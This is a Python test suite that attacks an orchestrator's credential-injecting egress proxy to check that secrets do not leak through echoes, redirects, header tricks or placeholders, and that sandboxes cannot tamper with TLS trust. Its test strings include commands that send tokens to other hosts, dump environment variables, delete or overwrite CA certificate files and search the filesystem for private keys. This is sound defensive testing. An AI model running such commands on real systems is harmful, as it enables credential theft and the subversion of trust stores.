"""Secrets that are put into requests: having them told (N6), those of others (N8), headers of its own (N9), wherever
they might be kept (N13), and trust of its own (N14).
"""

from __future__ import annotations

import base64
import itertools
import secrets
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from orchestrator.config import Settings
from tests.attack.attacker import Attacker, program_sources
from tests.attack.canaries import Canaries
from tests.attack.conftest import settings
from tests.attack.conversations import answer, asked, is_refused
from tests.attack.report import Case
from tests.attack.world import OTHER, SITE, Request, World, answered
from tests.e2e.caller import Caller, Json
from tests.e2e.server import ServerProcess

pytestmark = pytest.mark.usefixtures("beside")

_numbers = itertools.count()


@dataclass
class Held:
    """An attacker whose requests to `site.test` get a secret."""

    attacker: Attacker
    scheme: str
    secret: str

    def ask(self, tried: str, path: str, *headers: str, **fields: Any) -> Json:
        return asked(self.scheme, tried, path, *headers, **fields)


def made_credential(caller: Caller, **fields: Any) -> str:
    """The id of a new one."""
    made = caller.http.post("/v1beta/credentials", json={"id": f"held-{next(_numbers)}", **fields})
    assert made.status_code == 200, made.text
    return str(made.json()["id"])


def place(caller: Caller, *rules: Json, **fields: Any) -> Attacker:
    """An attacker in a new environment with these rules."""
    network = {"allowlist": list(rules)}
    return Attacker(caller, caller.new_environment(sources=program_sources(), network=network, **fields))


@pytest.fixture(params=["transform over http", "transform over https", "credential over https"])
def held(request: pytest.FixtureRequest, far_caller: Caller) -> Iterator[Held]:
    kind, _, scheme = request.param.partition(" over ")
    secret = f"canary{secrets.token_hex(12)}"
    if kind == "transform":
        rule: Json = {"transform": {"Authorization": f"Bearer {secret}", "X-Api-Key": secret}}
    else:
        credential = made_credential(far_caller, type="bearer_token", token=secret)
        rule = {"credential": credential, "transform": {"X-Api-Key": secret}}
    attacker = place(far_caller, {"domain": "site.test", **rule}, {"domain": "other.test"})
    yield Held(attacker, scheme, secret)
    attacker.leave()


def said(request: Request) -> str:
    return request.header("authorization")


def in_pieces(body: str, *trailers: str, extension: str = "") -> bytes:
    """An answer in chunks, with headers after it."""
    last = "".join(f"{each}\r\n" for each in trailers)
    head = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\nConnection: close\r\n\r\n"
    return f"{head}{len(body):x};{extension}\r\n{body}\r\n0\r\n{last}\r\n".encode()


ECHOES = {
    "in a header": lambda asked: answered("x", f"X-Echo: {said(asked)}"),
    "in the name of a header": lambda asked: answered("x", f"X-{said(asked).split()[-1]}: x"),
    "in a cookie": lambda asked: answered("x", f"Set-Cookie: t={said(asked).split()[-1]}; Path=/"),
    "percent-encoded": lambda asked: answered("x", f"X-Echo: {quote(said(asked))}"),
    "in a place to go to": lambda asked: answered("x", f"Location: /?t={said(asked)}", status="302 Found"),
    "as the reason": lambda asked: answered("x", status=f"200 {said(asked)}"),
    "in an early answer": lambda asked: (
        f"HTTP/1.1 103 Early Hints\r\nLink: <{said(asked)}>\r\n\r\n".encode() + answered("x")
    ),
    "after the body": lambda asked: in_pieces("x", f"X-Echo: {said(asked)}"),
    "in an extension of a chunk": lambda asked: in_pieces("x", extension=said(asked)),
    "in an answer that is none": lambda asked: f"HTTP/1.1 200 OK\r\n{said(asked)}\r\n\r\n".encode(),
    "in a status line that is none": lambda asked: f"{said(asked)}\r\n\r\n".encode(),
    "with another protocol": lambda asked: (
        f"HTTP/1.1 101 Switching\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nX-Echo: {said(asked)}\r\n\r\n".encode()
    ),
}  # fmt: skip
"""How a site repeats what it was sent. All of it is taken out."""
BODIES = {
    "in the body": lambda asked: answered(said(asked)),
    "in the body, in base64": lambda asked: answered(base64.b64encode(said(asked).encode()).decode()),
    "in a header, in base64": lambda asked: answered("x", f"X: {base64.b64encode(said(asked).encode()).decode()}"),
    "in a header, backwards": lambda asked: answered("x", f"X-Echo: {said(asked)[::-1]}"),
}
"""How it repeats it where nobody looks, by default or at all."""


@pytest.mark.case("N6")
def test_echoes(case: Case, world: World, held: Held) -> None:
    for number, page in enumerate((*ECHOES.values(), *BODIES.values())):
        world.outside.pages[f"/{number}"] = page
    upgrade = ("Upgrade: websocket", "Sec-WebSocket-Key: x")
    told = held.attacker.talk(
        *(
            held.ask(tried, f"/{number}", *(upgrade if "protocol" in tried else ()))
            for number, tried in enumerate((*ECHOES, *BODIES))
        )
    )
    hidden = (held.secret, held.secret[::-1], base64.b64encode(f"Bearer {held.secret}".encode()).decode())
    for tried, got in told.items():
        is_told = any(form in got for form in hidden)
        if tried in BODIES and is_told:
            case.differs(f"{held.scheme}: repeated {tried}", "it is told: trust the domains that you name")
        else:
            case.tried(f"{held.scheme}: repeated {tried}", got, ok=not is_told)
    given = {said(each) for each in world.outside.requests(SITE)}
    case.tried("control: what the site was sent", given, ok=given == {f"Bearer {held.secret}"})


@pytest.mark.case("N6")
def test_redirects(case: Case, world: World, held: Held) -> None:
    world.outside.pages["/away"] = lambda _: answered("", f"Location: {held.scheme}://other.test/got", status="307 Go")
    got = held.attacker.bash(
        f"curl -skSL --location-trusted {held.scheme}://site.test/away; "
        f"curl -skS -H 'Host: site.test' {held.scheme}://other.test/a; "
        f"curl -skS --connect-to site.test::other.test: {held.scheme}://site.test/b; true"
    )
    case.tried("followed, and other hosts under its name", got, ok=held.secret not in got)
    elsewhere = [each for each in world.outside.visits if each.address == OTHER]
    told = [each for each in elsewhere if held.secret.encode() in bytes(each.data)]
    case.tried(
        "what the other site was sent", f"{len(elsewhere)} visits, {len(told)} with it", ok=bool(elsewhere) and not told
    )
    got = held.attacker.talk(held.ask("TRACE", "/", method="TRACE"))["TRACE"]
    case.tried("TRACE", got, ok=is_refused(got))


@pytest.mark.case("N9")
def test_own_headers(case: Case, world: World, held: Held) -> None:
    variants = {
        "the same header": ("Authorization: Bearer mine",),
        "in lower case": ("authorization: mine",),
        "in upper case, twice": ("AUTHORIZATION: mine", "Authorization: mine too"),
        "without a space": ("Authorization:mine",),
        "empty": ("Authorization:",),
        "with a space before the colon": ("Authorization : mine",),
        "on a folded line": ("X-Other: x\r\n Authorization: mine",),
        "with `_` for `-`": ("X_Api_Key: mine",),
        "named by Connection, to be taken away": ("Connection: Authorization, X-Api-Key",),
        "named by Connection, and there": ("Connection: authorization", "Authorization: mine"),
        "as one of the proxy's": ("Proxy-Authorization: Bearer mine",),
        "another name of it": ("X-Authorization: mine", "X-Forwarded-Authorization: mine"),
        "as a trailer": ("Trailer: Authorization", "Transfer-Encoding: chunked"),
    }
    told = held.attacker.talk(
        *(
            held.ask(tried, "/", *lines, **_chunked(lines))
            for tried, lines in variants.items()
        )
    )  # fmt: skip
    for tried, got in told.items():
        case.tried(f"{held.scheme}: {tried}", answer(got), ok="200 OK" in got or is_refused(got))
    reached = world.outside.requests(SITE)
    answers = sum("200 OK" in got for got in told.values())
    case.tried("requests that the site read", f"{len(reached)}, {answers} answered", ok=len(reached) == answers > 6)
    for name, value in (("authorization", f"Bearer {held.secret}"), ("x-api-key", held.secret)):
        wrong = [
            each.head
            for each in reached
            if [given for header, given in each.headers if header.replace("_", "-") == name] != [value]
        ]
        case.tried(f"requests with another {name}, or several", wrong or "none", ok=not wrong)
    late = [each.body for each in reached if b"mine" in each.body]
    case.tried("headers of its own after the body", late or "none", ok=not late)


def _chunked(lines: tuple[str, ...]) -> Json:
    return {"method": "POST", "body": "0\r\nAuthorization: mine\r\n\r\n"} if "Trailer: Authorization" in lines else {}


@pytest.mark.case("N8")
def test_placeholders(case: Case, world: World, far_caller: Caller) -> None:
    secret = f"canary{secrets.token_hex(12)}"
    fields = {"type": "environment_variable", "injection_location": ["header"]}
    own = made_credential(far_caller, **fields, value=secret, trusted_domains=["site.test"])
    else_ = made_credential(far_caller, **fields, value="another", trusted_domains=["site.test"])
    mark = f"__GEMINI_CRED_{own}__"
    everybody = {"domain": "*"}
    holder = place(far_caller, everybody, env={"TOKEN": {"credential": own}})
    stranger = place(far_caller, everybody)
    other = place(far_caller, everybody, env={"TOKEN": {"credential": else_}})
    written = far_caller.post("x", {"type": "remote", "env": {"TOKEN": mark}})
    case.tried("a variable with the placeholder as its text", written.status_code, ok=secret not in written.text)

    encoded = "".join(f"%{ord(each):02x}" for each in mark)
    header = f"X-Token: {mark}"
    wrong: list[Json] = [
        asked("http", "in the clear", "/", header),
        asked("https", "to a site that is not trusted", "/", header, host="other.test"),
        asked("https", "in the query, where it may not be", f"/?t={mark}"),
        asked("https", "in the query, encoded", f"/?t={encoded}"),
        asked("https", "in the path", f"/{mark}"),
        asked("https", "in the path, encoded", f"/{encoded}"),
        asked("https", "in the name of a header", "/", f"X-{mark}: x"),
        asked("https", "of none that there is", "/", "X-Token: __GEMINI_CRED_no-such-one__"),
        asked("https", "in a body", "/", f"Content-Length: {len(mark)}", method="POST", body=mark),
    ]  # fmt: skip
    given = holder.talk(asked("https", "control: its holder's", "/", header))
    came = [each.header("x-token") for each in world.outside.requests(SITE)]
    case.tried("control: its holder's, where it may be", (given, came), ok=came == [secret])
    world.outside.forget()
    for tried, got in holder.talk(*wrong).items():
        case.tried(f"its holder's, {tried}", answer(got), ok=is_refused(got))
    (got,) = other.talk(asked("https", "x", "/", header)).values()
    case.tried("of an environment with another variable", answer(got), ok=is_refused(got))
    came = [each.head for each in world.outside.requests()]
    case.tried("requests that came to anybody by all this", came or "none", ok=not came)
    (got,) = stranger.talk(asked("https", "x", "/", header)).values()
    came = [each.header("x-token") for each in world.outside.requests(SITE)]
    case.tried("of an environment without variables: what the site was sent", came, ok=came == [mark])
    assert far_caller.http.post(f"/v1beta/credentials/{own}:revoke").status_code == 200
    (got,) = holder.talk(asked("https", "x", "/", header)).values()
    case.tried("its holder's, after it was revoked", answer(got), ok=is_refused(got) and "revoked" in got)
    assert far_caller.http.delete(f"/v1beta/credentials/{own}").status_code == 200
    (got,) = holder.talk(asked("https", "x", "/", header)).values()
    case.tried("its holder's, after it was deleted", answer(got), ok=is_refused(got))
    told = [bytes(each.data) for each in world.outside.visits if secret.encode() in each.data]
    case.tried("visits with the value, since the first", told or "none", ok=not told)
    for each in (holder, stranger, other):
        each.leave()


@pytest.mark.case("N14")
def test_trust_of_its_own(case: Case, world: World, far_caller: Caller) -> None:
    secret = f"canary{secrets.token_hex(12)}"
    credential = made_credential(far_caller, type="bearer_token", token=secret)
    rule = {"domain": "site.test", "credential": credential, "paths": ["/mine/*"]}
    attacker, beside = place(far_caller, rule), place(far_caller, rule)
    asking = "curl -sS -m 10 https://site.test/mine/a"
    got = attacker.bash(asking)
    case.tried("control: a program that was told nothing", got, ok=got == "content")
    world.outside.forget()
    for tried, code in (
        ("the machine's authorities alone", f"env -u SSL_CERT_FILE -u CURL_CA_BUNDLE {asking}"),
        ("an authority of its own", "openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=own "
         f"-keyout /tmp/k -out /tmp/c 2>/dev/null; {asking} --cacert /tmp/c"),
        ("a pinned key", f"{asking} --pinnedpubkey sha256//{'A' * 43}="),
        ("no proxy", f"env -u https_proxy -u HTTPS_PROXY -u ALL_PROXY -u all_proxy {asking} --noproxy '*'"),
        ("another path, no verification", "curl -sSk -m 10 https://site.test/theirs"),
        ("another name, no verification", "curl -sSk -m 10 https://other.test/mine/a"),
    ):  # fmt: skip
        got = attacker.bash(f"{code} 2>&1")
        case.tried(tried, got, ok="content" not in got)
    came = [each.head for each in world.outside.requests()]
    case.tried("requests that came to anybody by all this", came or "none", ok=not came)
    got = attacker.bash(
        'for f in "$SSL_CERT_FILE" "$CURL_CA_BUNDLE" /etc/ssl/certs/ca-certificates.crt; do '
        'for way in "echo x >> $f" "rm $f" "mv $f $f.old" "chmod 666 $f" "ln -sf /tmp/c $f"; do '
        'sh -c "$way" 2>/dev/null && echo "$way"; done; done; true'
    )
    case.tried("changing the files of whom programs trust", got.strip() or "refused", ok=not got.strip())
    got = attacker.bash("grep -rlI 'PRIVATE KEY' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=tmp 2>/dev/null "
                        "| xargs -r grep -l 'BEGIN.*PRIVATE KEY' | grep -v '/lib/\\|/usr/' ; true")  # fmt: skip
    case.tried("the authority's key in the sandbox", got.strip() or "none", ok=not got.strip())
    got = beside.bash(asking)
    case.tried("another sandbox, after all this", got, ok=got == "content")
    got = attacker.bash(f"{asking} -k")
    sent = [said(each) for each in world.outside.requests(SITE)]
    case.tried("without verification it is read all the same", (got, sent), ok=set(sent) == {f"Bearer {secret}"})
    for each in (attacker, beside):
        each.leave()


@pytest.fixture
def recording(world: World, engine: Settings, runtime: str, tmp_path: Path, internet: Path) -> Iterator[ServerProcess]:
    """A server that writes down all that it can, and looks for secrets also in bodies."""
    fields = {"SOURCES__CA_FILE": str(internet / "ca.pem"), "POOL__SIZE": "0", "RECORD": "true", "LOG_LEVEL": "debug"}
    process = ServerProcess(engine, tmp_path, EGRESS__REDACT_BODIES="true", **fields, **settings(runtime))
    process.start()
    yield process
    process.close()


_USES = r"""
curl -skSv -H "X-Token: $TOKEN" "https://site.test/echo?t=$TOKEN" 2>&1
curl -skSv -d "t=$TOKEN" https://site.test/echo https://site.test/broken 2>&1
curl -skSv https://site.test/echo 2>&1 > /workspace/kept; cat /workspace/kept
python3 -c "import os; print(dict(os.environ)); os.kill(os.getpid(), 6)"
"""


@pytest.mark.case("N13")
def test_canaries(case: Case, world: World, recording: ServerProcess) -> None:
    """A run that uses secrets of all kinds, at a site that repeats them wherever it can."""
    canaries = Canaries()
    world.outside.pages["/echo"] = lambda asked: answered(
        repr(asked.headers) + asked.target,
        *(f"X-Echo-{index}: {value}" for index, (_, value) in enumerate(asked.headers)),
        f"Location: {asked.target}",
    )
    world.outside.pages["/broken"] = lambda asked: f"{asked.head}\r\n\r\n".encode()
    with recording.caller() as caller:
        bearer = made_credential(caller, type="bearer_token", token=canaries.planted("a bearer token"))
        trusted = {"injection_location": ["header", "query", "body"], "trusted_domains": ["site.test"]}
        value = canaries.planted("a variable's value")
        variable = made_credential(caller, type="environment_variable", value=value, **trusted)
        added = {"X-Key": canaries.planted("a header of a rule")}
        rule = {"domain": "site.test", "credential": bearer, "transform": added}
        attacker = place(caller, rule, env={"TOKEN": {"credential": variable}})
        made = caller.create(f"```bash{_USES}```", attacker.environment_id)
        sent = canaries.within(b"".join(bytes(each.data) for each in world.outside.visits))
        case.tried("control: what the site was sent", sent, ok=set(sent) == set(canaries.values))
        refused = (
            ("a token with a line break", "/v1beta/credentials",
             {"type": "bearer_token", "token": canaries.planted("a token with a line break") + "\n"}),
            ("a credential that is there", "/v1beta/credentials",
             {"id": bearer, "type": "bearer_token", "token": canaries.planted("a token that is not taken")}),
            ("a header that may not be set", "/v1beta/environments",
             {"network": {"allowlist": [
                 {"domain": "site.test", "transform": {"Host": canaries.planted("a header that may not be set")}}
             ]}}),
        )  # fmt: skip
        for tried, path, body in refused:
            response = caller.http.post(path, json=body)
            told = canaries.within(response.content)
            happened = f"{response.status_code}, {', '.join(told) or 'without it'}"
            case.tried(f"refusing {tried}", happened, ok=response.status_code >= 400 and not told)
        for found in canaries.everywhere(recording, [attacker.environment_id], [made["id"]]):
            others = [kind for kind in found.found if kind != "a header of a rule"]
            happened = f"{found.looked_bytes >> 10} KiB: {', '.join(found.found) or 'none'}"
            if found.found and not others and "database" in found.name:
                case.differs(found.name, f"{happened}, as it was given: credentials are for secrets")
            else:
                case.tried(found.name, happened, ok=not found.found and found.looked_bytes > 0)
